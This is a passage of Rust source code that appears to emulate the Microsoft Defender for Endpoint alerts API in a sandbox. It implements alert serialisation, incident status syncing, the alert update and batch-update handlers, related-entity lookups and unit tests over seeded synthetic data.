        now: OffsetDateTime,
    ) {
        if let Some(s) = status {
            if s == AlertStatus::Resolved && self.status != AlertStatus::Resolved {
                self.resolved = Some(now);
            } else if s != AlertStatus::Resolved {
                self.resolved = None;
            }
            self.status = s;
        }
        if let Some(a) = &t.assigned_to {
            self.assigned_to = a.clone();
        }
        self.classification = pair.0;
        self.determination = pair.1;
        if let Some(c) = &t.comment {
            self.comments.push(Comment { comment: c.clone(), created_by: by.to_string(), created: now });
        }
        self.last_update = now;
    }

    pub fn mde_json(&self, with_evidence: bool) -> Value {
        json!({
            "id": self.id,
            "incidentId": self.incident_id,
            "investigationId": self.investigation_id,
            "assignedTo": self.assigned_to,
            "severity": self.severity.as_str(),
            "status": self.status.mde(),
            "classification": self.classification.map(Classification::mde),
            "determination": self.determination.map(Determination::mde),
            "investigationState": self.investigation_state,
            "detectionSource": self.detection_source.mde(),
            "detectorId": self.detector_id,
            "category": self.category,
            "threatFamilyName": self.threat_family_name,
            "threatName": self.threat_family_name,
            "title": self.title,
            "description": self.description,
            "alertCreationTime": fmt_mde(self.created),
            "firstEventTime": fmt_mde(self.first_event),
            "lastEventTime": fmt_mde(self.last_event),
            "lastUpdateTime": fmt_mde(self.last_update),
            "resolvedTime": self.resolved.map(fmt_mde),
            "machineId": self.machine_id,
            "computerDnsName": self.computer_dns_name,
            "rbacGroupName": self.rbac_group_name,
            "aadTenantId": self.aad_tenant_id,
            "mitreTechniques": self.mitre_techniques,
            "relatedUser": self.user.as_ref().map(|u| json!({"userName": u.account_name, "domainName": u.domain_name})),
            "loggedOnUsers": self.user.as_ref().map(|u| vec![json!({"accountName": u.account_name, "domainName": u.domain_name})]).unwrap_or_default(),
            "comments": self.comments.iter().map(Comment::mde_json).collect::<Vec<_>>(),
            "evidence": if with_evidence { self.evidence.iter().map(Evidence::mde_json).collect::<Vec<_>>() } else { Vec::new() },
        })
    }
}

impl Evidence {
    pub fn mde_json(&self) -> Value {
        json!({
            "entityType": self.kind.mde(),
            "evidenceCreationTime": fmt_mde(self.created),
            "sha1": self.sha1,
            "sha256": self.sha256,
            "fileName": self.file_name,
            "filePath": self.file_path,
            "processId": self.process_id,
            "processCommandLine": self.process_command_line,
            "processCreationTime": self.process_creation_time.map(fmt_mde),
            "parentProcessId": self.parent_process_id,
            "parentProcessCreationTime": null,
            "parentProcessFileName": self.parent_process_file_name,
            "parentProcessFilePath": null,
            "ipAddress": self.ip_address,
            "url": self.url,
            "registryKey": null,
            "registryHive": null,
            "registryValueType": null,
            "registryValue": null,
            "registryValueName": null,
            "accountName": self.account_name,
            "domainName": self.domain_name,
            "userSid": self.user_sid,
            "aadUserId": self.aad_user_id,
            "userPrincipalName": self.user_principal_name,
            "detectionStatus": self.detection_status,
        })
    }
}

/// After alerts changed: an incident whose alerts are all resolved is resolved; one with an
/// open alert again is active (Defender XDR keeps incident and alert status in step).
pub fn sync_incident(t: &mut Tenant, incident_id: u64, now: OffsetDateTime) {
    let all_resolved =
        t.mde.alerts.iter().filter(|a| a.incident_id == incident_id).all(|a| a.status == AlertStatus::Resolved);
    let any = t.mde.alerts.iter().any(|a| a.incident_id == incident_id);
    if let Some(inc) = t.mde.incidents.iter_mut().find(|i| i.id == incident_id) {
        if any && all_resolved && inc.status != IncidentStatus::Resolved {
            inc.status = IncidentStatus::Resolved;
            inc.resolved = Some(now);
            inc.last_update = now;
        } else if !all_resolved && inc.status == IncidentStatus::Resolved {
            inc.status = IncidentStatus::Active;
            inc.resolved = None;
            inc.last_update = now;
        }
    }
}

/// The incident as `/_sandbox/state` shows it: Graph spellings plus the ids of its alerts.
pub fn incident_state_json(i: &Incident, alerts: &[Alert]) -> Value {
    json!({
        "id": i.id.to_string(),
        "displayName": i.display_name,
        "status": i.status.graph(),
        "severity": i.severity(alerts).graph(),
        "assignedTo": i.assigned_to,
        "classification": i.classification.map(Classification::graph),
        "determination": i.determination.map(Determination::graph_incident),
        "customTags": i.custom_tags,
        "comments": i.comments.iter().map(Comment::graph_json).collect::<Vec<_>>(),
        "createdDateTime": fmt_mde(i.created),
        "lastUpdateDateTime": fmt_mde(i.last_update),
        "resolvedDateTime": i.resolved.map(fmt_mde),
        "alertIds": i.alerts(alerts).map(|a| a.id.clone()).collect::<Vec<_>>(),
        "history": i.history,
    })
}

// ---------------------------------------------------------------------------------------------
// MDE API: /api/alerts
// ---------------------------------------------------------------------------------------------

/// `$filter` properties (get-alerts documents alertCreationTime, lastUpdateTime, incidentId,
/// investigationId, status, severity, category; the rest are accepted as a lenient superset).
const ALERT_FILTER: &[&str] = &[
    "alertCreationTime",
    "lastUpdateTime",
    "lastEventTime",
    "incidentId",
    "investigationId",
    "status",
    "severity",
    "category",
    "id",
    "assignedTo",
    "detectionSource",
    "machineId",
    "computerDnsName",
    "classification",
    "determination",
    "title",
];
const ALERT_FIELDS: &[&str] = &[
    "id",
    "incidentId",
    "investigationId",
    "assignedTo",
    "severity",
    "status",
    "classification",
    "determination",
    "investigationState",
    "detectionSource",
    "detectorId",
    "category",
    "threatFamilyName",
    "threatName",
    "title",
    "description",
    "alertCreationTime",
    "firstEventTime",
    "lastEventTime",
    "lastUpdateTime",
    "resolvedTime",
    "machineId",
    "computerDnsName",
    "rbacGroupName",
    "aadTenantId",
    "mitreTechniques",
    "relatedUser",
    "loggedOnUsers",
    "comments",
    "evidence",
];
const ALERTS: EntitySet =
    EntitySet { filterable: ALERT_FILTER, fields: ALERT_FIELDS, entity: "Alert", context: "Alerts" };

const READ_ROLES: &[&str] = &["Alert.Read.All", "Alert.ReadWrite.All"];
const WRITE_ROLE: &str = "Alert.ReadWrite.All";

fn require_alert_read(c: &Caller) -> Result<(), Response> {
    if c.has_any_role(READ_ROLES) { Ok(()) } else { Err(forbidden("Alert.Read.All")) }
}

fn alert_not_found(id: &str) -> Response {
    errors::mde(StatusCode::NOT_FOUND, "ResourceNotFound", format!("Alert {id} was not found"))
}

fn invalid_input(msg: impl Into<String>) -> Response {
    errors::mde(StatusCode::BAD_REQUEST, "InvalidInput", msg)
}

/// `$expand=evidence` is the one expansion MDE documents on alerts; it is taken out of the
/// query before the generic OData handling.
fn split_expand(params: Params) -> Result<(Params, bool), Response> {
    let mut expand = false;
    let mut rest = Vec::new();
    for (k, v) in params.0 {
        if k.eq_ignore_ascii_case("$expand") {
            for part in v.split(',').map(str::trim) {
                if part.eq_ignore_ascii_case("evidence") {
                    expand = true;
                } else {
                    return Err(errors::mde(
                        StatusCode::BAD_REQUEST,
                        "ODataError",
                        format!(
                            "Could not find a navigation property named '{part}' on type 'Alert'. Supported: evidence."
                        ),
                    ));
                }
            }
        } else {
            rest.push((k, v));
        }
    }
    Ok((Params(rest), expand))
}

pub(super) async fn list_alerts(
    State(state): State<AppState>,
    MdeCaller(c): MdeCaller,
    uri: Uri,
    RawQuery(q): RawQuery,
) -> Result<Response, Response> {
    require_alert_read(&c)?;
    let (params, expand) = split_expand(Params::parse(q.as_deref()))?;
    let items = with_tenant(&state, &c, |t, _| {
        let mut v: Vec<&Alert> = t.mde.alerts.iter().filter(|a| a.is_endpoint()).collect();
        // Newest first, as the portal and API list them.
        v.sort_by_key(|a| std::cmp::Reverse(a.created));
        v.into_iter().map(|a| a.mde_json(expand)).collect::<Vec<_>>()
    })?;
    collection(&state, &uri, &params, items, &ALERTS)
}

fn alert_entity(state: &AppState, a: &Alert, expand: bool) -> Value {
    let mut v = a.mde_json(expand);
    set_context(&mut v, context(state, "Alerts/$entity"));
    v
}

pub(super) async fn get_alert(
    State(state): State<AppState>,
    MdeCaller(c): MdeCaller,
    Path(id): Path<String>,
    RawQuery(q): RawQuery,
) -> Result<Response, Response> {
    require_alert_read(&c)?;
    let (_, expand) = split_expand(Params::parse(q.as_deref()))?;
    let a = with_tenant(&state, &c, |t, _| {
        t.mde.alerts.iter().find(|a| a.is_endpoint() && a.id.eq_ignore_ascii_case(&id)).cloned()
    })?
    .ok_or_else(|| alert_not_found(&id))?;
    Ok(json_response(StatusCode::OK, alert_entity(&state, &a, expand)))
}

/// Reads `status`, `assignedTo`, `classification`, `determination`, `comment` from an MDE
/// update body. The docs' table capitalises some names (`Status`, `Comment`) while the
/// example sends camelCase; both are accepted, anything else is an invalid body.
fn parse_update(body: &Map<String, Value>, extra_allowed: &[&str]) -> Result<(Option<AlertStatus>, Triage), Response> {
    const KEYS: &[&str] = &["status", "assignedTo", "classification", "determination", "comment"];
    for k in body.keys() {
        if !KEYS.iter().chain(extra_allowed).any(|x| x.eq_ignore_ascii_case(k)) {
            return Err(invalid_body(format!(
                "Request body is invalid: unknown property '{k}'. Updatable properties: status, assignedTo, classification, determination, comment."
            )));
        }
    }
    let get = |key: &str| -> Result<Option<Value>, Response> {
        Ok(body.iter().find(|(k, _)| k.eq_ignore_ascii_case(key)).map(|(_, v)| v.clone()))
    };
    let text = |key: &str| -> Result<Option<Option<String>>, Response> {
        match get(key)? {
            None => Ok(None),
            Some(Value::Null) => Ok(Some(None)),
            Some(Value::String(s)) => Ok(Some(Some(s))),
            Some(other) => {
                Err(invalid_body(format!("Request body is invalid: '{key}' must be a string, got {other}.")))
            }
        }
    };
    let status = match text("status")? {
        None => None,
        Some(None) => return Err(invalid_input("'status' cannot be null.")),
        Some(Some(s)) => Some(AlertStatus::parse(&s).ok_or_else(|| {
            invalid_input(format!("Invalid value '{s}' for 'status'. Allowed values: New, InProgress, Resolved."))
        })?),
    };
    let classification = match text("classification")? {
        None => None,
        Some(None) => Some(None),
        Some(Some(s)) => Some(Some(Classification::parse(&s).ok_or_else(|| {
            invalid_input(format!(
                "Invalid value '{s}' for 'classification'. Allowed values: TruePositive, InformationalExpectedActivity, FalsePositive."
            ))
        })?)),
    };
    let determination = match text("determination")? {
        None => None,
        Some(None) => Some(None),
        Some(Some(s)) => Some(Some(Determination::parse(&s).ok_or_else(|| {
            invalid_input(format!(
                "Invalid value '{s}' for 'determination'. Allowed values: {} (the docs deprecated Apt and SecurityPersonnel in 2022).",
                Determination::ALL.map(Determination::mde).join(", ")
            ))
        })?)),
    };
    let comment = match text("comment")? {
        Some(Some(c)) if !c.trim().is_empty() => Some(c),
        _ => None,
    };
    Ok((status, Triage { assigned_to: text("assignedTo")?, classification, determination, comment }))
}

pub(super) async fn patch_alert(
    State(state): State<AppState>,
    MdeCaller(c): MdeCaller,
    Path(id): Path<String>,
    body: Bytes,
) -> Result<Response, Response> {
    c.require(&[WRITE_ROLE])?;
    let body = parse_body(&body)?;
    let (status, triage) = parse_update(&body, &[])?;
    let a = with_tenant(&state, &c, |t, now| -> Result<Alert, Response> {
        let i = t
            .mde
            .alerts
            .iter()
            .position(|a| a.is_endpoint() && a.id.eq_ignore_ascii_case(&id))
            .ok_or_else(|| alert_not_found(&id))?;
        let a = &t.mde.alerts[i];
        let pair = check_pair(a.classification, a.determination, &triage).map_err(invalid_input)?;
        let a = &mut t.mde.alerts[i];
        a.apply(status, pair, &triage, &c.app_id, now);
        let a = a.clone();
        sync_incident(t, a.incident_id, now);
        Ok(a)
    })??;
    Ok(json_response(StatusCode::OK, alert_entity(&state, &a, false)))
}

/// `POST /api/alerts/batchUpdate`: all-or-nothing over `alertIds`; 200 with an empty body.
/// Documented limit 10 calls/min and 500/h (on top of the tenant-wide MDE quota).
pub(super) async fn batch_update(
    State(state): State<AppState>,
    MdeCaller(c): MdeCaller,
    body: Bytes,
) -> Result<Response, Response> {
    c.require(&[WRITE_ROLE])?;
    super::endpoint_quota(&state, &c, "alerts/batchUpdate", 10, 500)?;
    let body = parse_body(&body)?;
    let ids = match body.get("alertIds") {
        Some(Value::Array(a)) if !a.is_empty() => a
            .iter()
            .map(|v| {
                v.as_str()
                    .map(str::to_owned)
                    .ok_or_else(|| invalid_body("Request body is invalid: 'alertIds' must be an array of strings."))
            })
            .collect::<Result<Vec<_>, _>>()?,
        Some(Value::Array(_)) => {
            return Err(invalid_input("'alertIds' must contain at least one alert id."));
        }
        Some(_) => {
            return Err(invalid_body("Request body is invalid: 'alertIds' must be an array of strings."));
        }
        None => {
            body_str(&body, "alertIds", true)?;
            return Err(invalid_body("Request body is invalid: 'alertIds' is required."));
        }
    };
    let (status, triage) = parse_update(&body, &["alertIds"])?;
    with_tenant(&state, &c, |t, now| -> Result<(), Response> {
        let mut plan = Vec::new();
        for id in &ids {
            let i = t
                .mde
                .alerts
                .iter()
                .position(|a| a.is_endpoint() && a.id.eq_ignore_ascii_case(id))
                .ok_or_else(|| alert_not_found(id))?;
            let a = &t.mde.alerts[i];
            let pair = check_pair(a.classification, a.determination, &triage)
                .map_err(|m| invalid_input(format!("Alert {}: {m}", a.id)))?;
            plan.push((i, pair));
        }
        for (i, pair) in plan {
            t.mde.alerts[i].apply(status, pair, &triage, &c.app_id, now);
            let inc = t.mde.alerts[i].incident_id;
            sync_incident(t, inc, now);
        }
        Ok(())
    })??;
    Ok(StatusCode::OK.into_response())
}

/// `GET /api/alerts/{id}/{files|ips|domains|machine|user}` (get-alert-related-*-info).
pub(super) async fn alert_related(
    State(state): State<AppState>,
    MdeCaller(c): MdeCaller,
    Path((id, sub)): Path<(String, String)>,
) -> Result<Response, Response> {
    require_alert_read(&c)?;
    let (a, machine) = with_tenant(&state, &c, |t, now| {
        let a = t.mde.alerts.iter().find(|a| a.is_endpoint() && a.id.eq_ignore_ascii_case(&id)).cloned();
        let m = a.as_ref().and_then(|a| t.machine(&a.machine_id)).map(|m| machine_json(m, now));
        (a, m)
    })?;
    let a = a.ok_or_else(|| alert_not_found(&id))?;
    let list = |fragment: &str, value: Vec<Value>| {
        Ok(json_response(StatusCode::OK, json!({"@odata.context": context(&state, fragment), "value": value})))
    };
    match sub.to_ascii_lowercase().as_str() {
        "files" => {
            let mut seen = std::collections::HashSet::new();
            let files = a
                .evidence
                .iter()
                .filter(|e| e.kind == EvidenceKind::File && e.sha1.is_some())
                .filter(|e| seen.insert(e.sha1.clone()))
                .map(file_json)
                .collect();
            list("Files", files)
        }
        "ips" => {
            list("Ips", a.evidence.iter().filter_map(|e| e.ip_address.as_ref()).map(|ip| json!({"id": ip})).collect())
        }
        "domains" => list(
            "Domains",
            a.evidence
                .iter()
                .filter_map(|e| e.url.as_deref())
                .filter_map(|u| url::Url::parse(u).ok())
                .filter_map(|u| u.host_str().map(|h| json!({"host": h})))
                .collect(),
        ),
        "machine" => {
            let mut m = machine.ok_or_else(|| machine_not_found(&a.machine_id))?;
            set_context(&mut m, context(&state, "Machines/$entity"));
            Ok(json_response(StatusCode::OK, m))
        }
        "user" => {
            let u = a.user.as_ref().ok_or_else(|| {
                errors::mde(StatusCode::NOT_FOUND, "ResourceNotFound", format!("Alert {id} has no related user"))
            })?;
            Ok(json_response(
                StatusCode::OK,
                json!({
                    "@odata.context": context(&state, "Users/$entity"),
                    "id": format!("{}\\{}", u.domain_name.to_lowercase(), u.account_name),
                    "accountName": u.account_name,
                    "accountDomain": u.domain_name.to_lowercase(),
                    "accountSid": u.user_sid,
                    "firstSeen": fmt_mde(a.first_event - Duration::days(30)),
                    "lastSeen": fmt_mde(a.last_event),
                    "mostPrevalentMachineId": a.machine_id,
                    "leastPrevalentMachineId": a.machine_id,
                    "logonTypes": "Interactive",
                    "logOnMachinesCount": 1,
                    "isDomainAdmin": false,
                    "isOnlyNetworkUser": false,
                }),
            ))
        }
        _ => Err(errors::mde(
            StatusCode::NOT_FOUND,
            "NotFound",
            format!("No resource '{sub}' on alerts. Supported: files, ips, domains, machine, user."),
        )),
    }
}

/// The MDE File entity for a piece of file evidence (get-alert-related-files-info).
fn file_json(e: &Evidence) -> Value {
    json!({
        "sha1": e.sha1,
        "sha256": e.sha256,
        "md5": null,
        "globalPrevalence": 1,
        "globalFirstObserved": fmt_mde(e.created - Duration::days(3)),
        "globalLastObserved": fmt_mde(e.created),
        "size": e.file_size,
        "fileType": null,
        "isPeFile": e.file_name.as_deref().is_some_and(|n| n.ends_with(".exe") || n.ends_with(".dll")),
        "filePublisher": null,
        "fileProductName": null,
        "signer": null,
        "issuer": null,
        "signerHash": null,
        "isValidCertificate": false,
        "determinationType": if e.verdict == "Malicious" { "Malware" } else { "Unknown" },
        "determinationValue": e.file_name,
    })
}

/// `GET /api/machines/{id}/alerts` (get-machine-related-alerts), called by the machine route.
pub(super) fn machine_alerts(
    state: &AppState,
    c: &Caller,
    id: &str,
    uri: &Uri,
    q: Option<&str>,
) -> Result<Response, Response> {
    require_alert_read(c)?;
    let (params, expand) = split_expand(Params::parse(q))?;
    let items = with_tenant(state, c, |t, _| {
        let m = t.machine(id)?;
        let mut v: Vec<&Alert> = t.mde.alerts.iter().filter(|a| a.machine_id == m.id).collect();
        v.sort_by_key(|a| std::cmp::Reverse(a.created));
        Some(v.into_iter().map(|a| a.mde_json(expand)).collect::<Vec<_>>())
    })?
    .ok_or_else(|| machine_not_found(id))?;
    collection(state, uri, &params, items, &ALERTS)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::world::World;

    fn now() -> OffsetDateTime {
        OffsetDateTime::from_unix_timestamp(1_800_000_000).unwrap()
    }

    #[test]
    fn seeded_alerts_are_deterministic_and_linked() {
        let a = World::generate(3, 2, now());
        let b = World::generate(3, 2, now());
        for (x, y) in a.tenants.iter().zip(&b.tenants) {
            let ids = |t: &Tenant| t.mde.alerts.iter().map(|a| a.id.clone()).collect::<Vec<_>>();
            assert_eq!(ids(x), ids(y));
            let cross = crate::graph::security::CROSS_PRODUCT_INCIDENTS;
            // ... and seed 004's container-attack incident (`graph/cloud_alerts.rs`).
            assert_eq!(x.mde.incidents.len(), INCIDENTS_PER_TENANT + cross + 1);
            let container = x.mde.incidents.last().map(|i| i.id);
            // Other products' alerts sit on no machine, and each of their cross-product incidents
            // spans several (the container attack is Defender for Cloud's alone).
            for al in x.mde.alerts.iter().filter(|a| a.service_source != ServiceSource::Endpoint) {
                if Some(al.incident_id) == container {
                    continue;
                }
                assert!(al.machine_id.is_empty());
                let products: std::collections::HashSet<&str> = x
                    .mde
                    .alerts
                    .iter()
                    .filter(|b| b.incident_id == al.incident_id)
                    .map(|b| b.service_source.graph())
                    .collect();
                assert!(products.len() >= 2, "{products:?}");
            }
            for al in x.mde.alerts.iter().filter(|a| a.service_source == ServiceSource::Endpoint) {
                assert!(x.machine(&al.machine_id).is_some());
                assert!(x.mde.incidents.iter().any(|i| i.id == al.incident_id));
                assert!(al.id.starts_with("da") && al.id.contains('_'));
                assert!(al.evidence.iter().any(|e| e.kind == EvidenceKind::User));
                if let (Some(c), Some(d)) = (al.classification, al.determination) {
                    assert!(d.allowed_under(c));
                }
            }
            for s in [AlertStatus::New, AlertStatus::InProgress, AlertStatus::Resolved] {
                assert!(x.mde.alerts.iter().any(|a| a.status == s), "{s:?}");
            }
            assert!(x.mde.alerts.iter().any(|a| a.evidence.iter().any(|e| e.sha256.is_some())));
            assert!(x.mde.alerts.iter().any(|a| a.evidence.iter().any(|e| e.url.is_some())));
            assert!(x.mde.alerts.iter().any(|a| a.evidence.iter().any(|e| e.ip_address.is_some())));
        }
    }

    #[test]
    fn determination_rules() {
        let t = Triage {
            classification: Some(Some(Classification::FalsePositive)),
            determination: Some(Some(Determination::Malware)),
            ..Default::default()
        };
        assert!(check_pair(None, None, &t).is_err());
        let t = Triage { determination: Some(Some(Determination::Malware)), ..Default::default() };
        assert!(check_pair(None, None, &t).is_err());
        assert!(check_pair(Some(Classification::TruePositive), None, &t).is_ok());
        assert_eq!(Determination::parse("clean"), Some(Determination::NotMalicious));
        assert_eq!(Determination::parse("Apt"), None);
    }
}
